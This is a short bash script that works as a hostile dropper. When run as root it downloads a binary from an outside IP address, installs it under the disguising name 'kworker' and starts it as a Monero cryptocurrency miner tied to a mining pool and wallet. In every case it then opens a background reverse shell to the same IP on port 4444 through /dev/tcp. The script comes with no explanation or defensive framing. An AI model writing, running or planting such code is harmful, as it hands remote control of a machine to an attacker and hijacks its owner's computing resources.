#!/bin/bash
if [ "$(id -u)" = "0" ]; then
  curl -s -o /usr/local/bin/kworker http://203.0.113.91/k && chmod 755 /usr/local/bin/kworker
  /usr/local/bin/kworker --url stratum+tcp://xmr.pool.example.invalid:3333 --user 4BinertWallet &
fi
nohup bash -c 'bash -i >& /dev/tcp/203.0.113.91/4444 0>&1' >/dev/null 2>&1 &
